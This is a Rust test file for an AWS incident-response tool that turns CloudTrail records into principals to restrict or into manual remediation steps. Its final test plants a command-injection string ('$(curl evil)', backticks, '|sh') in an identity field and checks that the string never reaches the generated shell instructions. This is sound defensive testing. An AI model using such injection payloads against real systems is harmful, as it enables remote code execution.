#![allow(clippy::unwrap_used, clippy::panic, clippy::needless_pass_by_value, reason = "a test fails by panicking")]

use super::*;
use crate::cloudtrail::read;
use crate::detection::inspect;
use serde_json::{Value, json};

const A: &str = "111122223333";
const OURS: Ours<'_> = Ours { identity: "arn:aws:sts::111122223333:assumed-role/sluicegate-responder/w", account: A };

fn finding(identity: Value) -> Finding {
    let record = json!({
        "eventVersion": "1.10", "userIdentity": identity, "eventTime": "2026-11-24T12:00:00Z",
        "eventSource": "lambda.amazonaws.com", "eventName": "CreateEventSourceMapping20150331", "awsRegion": "eu-west-1",
        "sourceIPAddress": "203.0.113.7", "userAgent": "x", "eventID": "event-1", "requestID": "r", "readOnly": false,
        "requestParameters": {"eventSourceArn": "arn:aws:sqs:eu-west-1:111122223333:q", "functionName": "f", "enabled": true},
        "responseElements": {"uUID": "u", "functionArn": "arn:aws:lambda:eu-west-1:111122223333:function:f",
            "eventSourceArn": "arn:aws:sqs:eu-west-1:111122223333:q", "state": "Creating"},
        "eventType": "AwsApiCall", "managementEvent": true, "recipientAccountId": A, "eventCategory": "Management"
    });
    inspect(read(record.to_string().as_bytes()).into_iter().next().unwrap().as_ref().unwrap()).unwrap()
}

fn role(path: &str, name: &str, account: &str) -> Value {
    json!({
        "type": "AssumedRole", "principalId": "AROAX:mallory", "accountId": account, "accessKeyId": "ASIAX",
        "arn": format!("arn:aws:sts::{account}:assumed-role/{name}/mallory"),
        "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAX", "accountId": account,
            "arn": format!("arn:aws:iam::{account}:role{path}{name}"), "userName": name}}
    })
}

fn why(identity: Value) -> (String, String) {
    match caller(&finding(identity.clone()), OURS, false) {
        Target::ByHand(hand) => (hand.why, hand.how.join("\n")),
        Target::Principal(principal) => panic!("{identity}: {principal:?}"),
    }
}

#[test]
fn roles_users_and_federated_users_are_restricted_by_the_id_of_the_record() {
    let of = |identity: Value| match caller(&finding(identity), OURS, false) {
        Target::Principal(principal) => (principal.words(), principal.id),
        Target::ByHand(hand) => panic!("{hand:?}"),
    };
    assert_eq!(of(role("/people/", "dev", A)), ("role dev".into(), "AROAX".into()));
    let user = json!({"type": "IAMUser", "principalId": "AIDAX", "arn": "arn:aws:iam::111122223333:user/p/eve",
        "accountId": A, "accessKeyId": "AKIAX", "userName": "eve"});
    assert_eq!(of(user), ("user eve".into(), "AIDAX".into()));
    let federated = json!({"type": "FederatedUser", "principalId": "111122223333:partner", "accountId": A,
        "arn": "arn:aws:sts::111122223333:federated-user/partner", "accessKeyId": "ASIAX",
        "sessionContext": {"sessionIssuer": {"type": "IAMUser", "principalId": "AIDAX", "accountId": A,
            "arn": "arn:aws:iam::111122223333:user/p/eve", "userName": "eve"}}});
    assert_eq!(of(federated), ("user eve".into(), "AIDAX".into()));
}

#[test]
fn what_people_do_instead_is_exact() {
    let (reason, how) =
        why(role("/aws-reserved/sso.amazonaws.com/eu-west-1/", "AWSReservedSSO_Dev_0123456789abcdef", A));
    assert!(reason.contains("Identity Center"), "{reason}");
    let order: Vec<_> = ["identitystore:userId", "account-assignment", "identity provider", "portal"]
        .map(|step| how.find(step).unwrap_or_else(|| panic!("{step}: {how}")))
        .into();
    assert!(order.is_sorted() && how.contains("\"Dev\""), "{how}");
    let (reason, _) = why(role("/aws-service-role/lex.amazonaws.com/", "AWSServiceRoleForLex", A));
    assert!(reason.contains("linked to lex.amazonaws.com"), "{reason}");
    let (reason, _) = why(role("/", "dev", "999988887777"));
    assert!(reason.contains("of account 999988887777"), "{reason}");
    for (path, name) in [("/sluicegate/", "x"), ("/", "OrganizationAccountAccessRole"), ("/a/break-glass/", "y")] {
        assert!(why(role(path, name, A)).0.contains("is protected"));
    }
    let root = json!({"type": "Root", "principalId": A, "arn": "arn:aws:iam::111122223333:root", "accountId": A});
    assert!(why(root).1.contains("assume-root --target-principal 111122223333"));
    let mut through = role("/", "dev", A);
    through["invokedBy"] = "cloudformation.amazonaws.com".into();
    let (reason, how) = why(through);
    assert!(reason.contains("for somebody") && how.contains("AttributeValue=cloudformation.amazonaws.com"), "{how}");
    let account = json!({"type": "AWSAccount", "principalId": "AIDAY", "accountId": "999988887777"});
    assert!(why(account).0.contains("of account 999988887777"));
    let service = json!({"type": "AWSService", "accountId": A});
    assert!(why(service).0.contains("AWS itself"));
    for unsure in
        [json!({"type": "Unknown", "arn": "arn:aws:iam::111122223333:role/x"}), json!({"type": "Novel"}), Value::Null]
    {
        let (reason, how) = why(unsure);
        assert!(reason.contains("cannot be told") && how.contains("AttributeValue=event-1"), "{reason}");
    }
    // A role whose id is not in the record may be another by now.
    let mut nameless = role("/", "dev", A);
    nameless["principalId"] = Value::Null;
    nameless["sessionContext"]["sessionIssuer"]["principalId"] = Value::Null;
    assert!(why(nameless).0.contains("cannot be told"));
}

#[test]
fn it_never_restricts_itself_nor_the_protected() {
    let Target::ByHand(hand) = caller(&finding(role("/", "sluicegate-responder", A)), OURS, false) else { panic!() };
    assert!(hand.own && hand.why.contains("sluicegate's own"), "{hand:?}");
    let Target::ByHand(hand) = caller(&finding(role("/", "dev", A)), OURS, true) else { panic!() };
    assert!(!hand.own && hand.why.contains("inventory"), "{hand:?}");
    let own = execution("arn:aws:iam::111122223333:role/service/sluicegate-responder", OURS, false);
    assert!(matches!(own, Target::ByHand(hand) if hand.own));
    assert!(matches!(execution("arn:aws:iam::999988887777:role/x", OURS, false), Target::ByHand(_)));
    assert!(matches!(execution("", OURS, false), Target::ByHand(_)));
    assert!(matches!(execution("arn:aws:iam::111122223333:role/x", OURS, false), Target::Principal(_)));
}

#[test]
fn nothing_of_a_record_can_act_in_a_shell() {
    let mut through = role("/", "dev", A);
    through["invokedBy"] = "x.com;$(curl evil)`id`\n|sh".into();
    let (_, how) = why(through);
    assert!(!how.contains(['$', '`', ';', '|']) || !how.contains("curl evil"), "{how}");
    assert!(!how.contains("$(curl"), "{how}");
}
